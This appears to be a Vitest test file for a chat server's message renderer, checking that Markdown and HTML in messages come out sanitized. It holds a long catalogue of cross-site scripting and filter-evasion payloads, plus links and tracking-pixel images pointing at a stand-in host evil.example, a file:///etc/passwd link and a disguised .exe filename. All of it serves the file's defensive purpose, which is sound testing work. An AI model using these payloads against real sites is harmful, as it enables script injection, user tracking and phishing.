// bodyHtml may be inserted into a page unchanged: whatever the body contains, nothing in it runs, loads or misleads.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { dangers } from '../support/html-safety.ts';
import { mutate, type Person, seed } from '../support/seed.ts';
import { type Json, startServer, type TestServer } from '../support/server.ts';

const attacks: string[] = [
  // Raw HTML, after the cheat sheets of filter evasion.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert("x");//\\<</SCRIPT>',
  '<script/src="data:,alert(1)">',
  '</p><script>alert(1)</script><p>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG """><SCRIPT>alert("x")</SCRIPT>"\\>',
  '<img src=`javascript:alert(1)`>',
  '<img/src="x"/onerror=alert(1)//',
  '<img src="x" onerror\n=\nalert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)">',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
  '<a onmouseover="alert(1)">x</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<form action="javascript:alert(1)"><input type=submit>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--[if gte IE 4]><SCRIPT>alert(1)</SCRIPT><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "<script>">]>&x;',
  '<x onclick=alert(1)>x',
  '<span class="mention" onclick=alert(1)>@x</span>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '＜script＞alert(1)＜/script＞',
  // Links of Markdown.
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\u0001script:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29)',
  '[x](javascript%3Aalert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/png;base64,PHNjcmlwdD4=)',
  '[x](data:image/svg+xml;base64,PHN2Zy8+)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://chat.example.com/1)',
  '[x](view-source:javascript:alert(1))',
  '[x](ws://evil.example)',
  // Links that have the page's scheme or host, or lose them on the way.
  '[x](//evil.example)',
  '[x](///evil.example)',
  '[x](/\\evil.example)',
  '[x](\\\\evil.example)',
  '[x](<\\\\evil.example>)',
  '[x](&#47;&#47;evil.example)',
  '[x](&sol;&sol;evil.example)',
  '[x](/&Tab;/evil.example)',
  '[x](</\t/evil.example>)',
  '[x](%2F%2Fevil.example)',
  '[x](https:evil.example)',
  '[x](https:/evil.example)',
  '[x](https:///evil.example)',
  '[x](https:\\\\evil.example)',
  '[x](https:/\\evil.example)',
  '[x](http&#58;//evil.example)',
  '[x](/settings/delete)',
  '[x](settings)',
  '[x](?delete=1)',
  '[x](#top)',
  '[x](.)',
  '[x]()',
  '[x](mailto:)',
  '[x]: //evil.example\n\n[x]',
  '<//evil.example>',
  '//evil.example and \\\\evil.example',
  '![x](//evil.example/pixel.gif)',
  '[![x](//evil.example/p.gif)](//evil.example)',
  '[x](https://example.com" onmouseover="alert(1))',
  '[x](https://example.com "t\\" onmouseover=\\"alert(1)")',
  "[x](https://example.com '\"><script>alert(1)</script>')",
  '[<img src=x onerror=alert(1)>](https://example.com)',
  '[x]: javascript:alert(1)\n\n[x] [x][x]',
  '[x]: <data:text/html,x> "t"\n\n[x]',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  'javascript:alert(1) data:text/html,x vbscript:x',
  'https://example.com/"onmouseover="alert(1)',
  "https://example.com/'onmouseover='alert(1)",
  'https://example.com/<script>alert(1)</script>',
  'https://user:secret@evil.example/\u202egpj.exe',
  // Images: they would reveal their readers to their server.
  '![x](https://evil.example/pixel.gif)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/p.gif" onerror="alert(1))',
  '[![x](https://evil.example/pixel.gif)](https://example.com)',
  '![x][y]\n\n[y]: https://evil.example/pixel.gif',
  // Code, tables, lists.
  '```"><script>alert(1)</script>\nx\n```',
  '```x" onclick="alert(1)\ny\n```',
  '```js class="x" style="x"\ny\n```',
  '~~~\u0000<b>\n~~~'.replace('\u0000', ''),
  '`<script>alert(1)</script>`',
  '    <script>alert(1)</script>',
  '| a |\n| :-: |\n| <script>alert(1)</script> |',
  '9999999999999999999999. x',
  '1" onclick="alert(1). x',
  // What mentions could break out of.
  '@ada<script>alert(1)</script>',
  '@ada" onclick="alert(1)',
  '[@ada](javascript:alert(1))',
  '<@ada>',
  '**@ada*<b>*',
  '&commat;ada&lt;img src=x onerror=alert(1)&gt;',
];

let server: TestServer;
let ada: Person;
let channelId: string;

beforeAll(async () => {
  server = await startServer();
  const { users, channels } = await seed(server, { users: { ada: 'MEMBER' }, channels: { talk: { by: 'ada' } } });
  [ada, channelId] = [users.ada, channels.talk];
});
afterAll(() => server.close());

async function rendered(body: string): Promise<string> {
  return (await mutate(ada, 'sendMessage', { channelId, body }, 'message { bodyHtml }')).message.bodyHtml;
}

describe('the check itself', () => {
  test.each([
    ...[
      '<script>x</script>',
      '<p onclick="x">x</p>',
      '<a href="javascript:x" rel="nofollow noopener noreferrer">x</a>',
    ],
    ...[
      '<img src="x">',
      '<p style="x">x</p>',
      '<iframe></iframe>',
      '<a href="https://example.com">x</a>',
      '<a href="//example.com" rel="nofollow noopener noreferrer">x</a>',
      '<a href="/x" rel="nofollow noopener noreferrer">x</a>',
      '<a href="https:x" rel="nofollow noopener noreferrer">x</a>',
      '<!-- x -->',
    ],
    ...[
      '<a href="java\tscript:x" rel="nofollow noopener noreferrer">x</a>',
      '<p',
      '<span class="other">x</span>',
      '<b>x</b>',
    ],
  ])('finds the danger in %s', (html) => {
    expect(dangers(html)).not.toEqual([]);
  });

  test('finds no danger in what Markdown produces', async () => {
    const body =
      '# A *b* **c** ~~d~~ `e`\n> f\n\n3. g\n- h\n\n```js\ni\n```\n| j |\n|:-:|\n| @ada |\n\n---\n[k](http://l.mn "o")\np\nq';
    const html = await rendered(body);
    expect(dangers(html)).toEqual([]);
    for (const part of [
      ...['<h1>A <em>b</em> <strong>c</strong> <s>d</s> <code>e</code></h1>', '<blockquote>', '<ol start="3">', '<ul>'],
      ...['<code class="language-js">i', '<td><span class="mention">@ada</span></td>', '<hr />', 'p<br />'],
      '<a href="http://l.mn" title="o" rel="nofollow noopener noreferrer">k</a>',
    ]) {
      expect(html).toContain(part);
    }
  });
});

describe('an attack', () => {
  test.each(attacks)('%j has no effect, sent or edited, beside a mention too', async (attack) => {
    const query = `mutation ($a: SendMessageInput!, $b: SendMessageInput!) {
      a: sendMessage(input: $a) { message { id body bodyHtml } } b: sendMessage(input: $b) { message { bodyHtml } }
    }`;
    const mentioned = `@ada ${attack} @ada\n\n@ada ${attack}`;
    const { a, b } = await ada.data<Record<string, Json>>(query, {
      a: { channelId, body: attack },
      b: { channelId, body: mentioned },
    });
    const edit =
      'mutation ($id: ID!, $body: String!) { editMessage(input: { messageId: $id, body: $body }) { message { bodyHtml } } }';
    const { editMessage } = await ada.data(edit, { id: a.message.id, body: mentioned });
    expect(dangers(a.message.bodyHtml)).toEqual([]);
    expect(dangers(b.message.bodyHtml)).toEqual([]);
    expect(b.message.bodyHtml).toContain('<span class="mention">@ada</span>');
    expect(editMessage.message.bodyHtml).toBe(b.message.bodyHtml);
    expect(a.message.body).toBe(attack.trimEnd());
  });

  test('that is text stays readable text', async () => {
    expect(await rendered('<script>alert(1)</script>')).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>');
    expect(await rendered('a < b && c > d "e"')).toBe('<p>a &lt; b &amp;&amp; c &gt; d "e"</p>');
    expect(await rendered('@ada <b>x</b> & <a href="/y">z</a>')).toBe(
      '<p><span class="mention">@ada</span> &lt;b&gt;x&lt;/b&gt; &amp; &lt;a href="/y"&gt;z&lt;/a&gt;</p>',
    );
  });
});

describe('links', () => {
  test.each([
    ['https://example.com/a?b=c&d', 'https://example.com/a?b=c&amp;d'],
    ['[x](mailto:ada@example.com)', 'mailto:ada@example.com'],
    ['<http://example.com>', 'http://example.com'],
  ])('%s lead to other sites', async (body, href) => {
    expect(await rendered(body)).toContain(`<a href="${href}" rel="nofollow noopener noreferrer">`);
  });

  test('are not created from what only looks like one', async () => {
    expect(await rendered('example.com and ada@example.com')).toBe('<p>example.com and ada@example.com</p>');
  });
});
